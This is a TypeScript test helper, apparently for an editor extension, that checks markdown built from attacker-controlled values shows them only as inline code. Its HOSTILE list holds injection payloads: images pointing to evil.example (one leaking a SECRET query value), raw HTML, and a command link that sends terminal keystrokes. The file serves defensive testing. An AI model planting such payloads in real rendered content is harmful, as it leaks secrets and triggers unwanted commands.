// Checks that markdown built from hostile values renders none of them as markup (a test helper).
import { strict as assert } from 'node:assert';

/** Values an attacker controls (a compose value, a container command, a volume name…). */
export const HOSTILE = [
  '`![](https://evil.example/?k=SECRET)`',
  '![x](https://evil.example/p.png)',
  '[evil](command:workbench.action.terminal.sendSequence?%7B%7D)',
  '<img src=https://evil.example/i.png>',
  '\n\n![y](https://evil.example/q.png)\n\n',
  '$(warning) <a href="https://evil.example">a</a>',
];

/** The markdown without its inline code spans, per paragraph, as CommonMark reads them
 * (a run of n backticks closed by the next run of exactly n; a span never crosses a blank line). */
export function outsideCode(md: string): { outside: string; spans: string[] } {
  let outside = '';
  const spans: string[] = [];
  for (const para of md.split(/\n[ \t]*\n/)) {
    let i = 0;
    while (i < para.length) {
      if (para[i] === '\\' && i + 1 < para.length) { outside += para.slice(i, i + 2); i += 2; continue; }
      if (para[i] !== '`') { outside += para[i++]; continue; }
      let n = 0;
      while (para[i + n] === '`') n++;
      let j = i + n;
      let close = -1;
      while (j < para.length) {
        if (para[j] !== '`') { j++; continue; }
        let m = 0;
        while (para[j + m] === '`') m++;
        if (m === n) { close = j; break; }
        j += m;
      }
      if (close < 0) { outside += para.slice(i, i + n); i += n; continue; }
      spans.push(para.slice(i + n, close));
      outside += '\u0000';
      i = close + n;
    }
    outside += '\n\n';
  }
  return { outside, spans };
}

/** No link, image, HTML, autolink or theme icon outside code spans (backslash-escaped characters are text). */
export function assertNoInjection(md: string, payloadPart?: string): void {
  const { outside, spans } = outsideCode(md);
  const unescaped = outside.replace(/\\[!-/:-@[-`{-~]/g, '_');
  assert.ok(!/\]\(|!\[|<|https?:\/\/|\$\(|command:/.test(unescaped), `markup outside code spans: ${JSON.stringify(unescaped)} in ${JSON.stringify(md)}`);
  if (payloadPart) assert.ok(spans.some((s) => s.includes(payloadPart)), `payload not shown as code: ${md}`);
}
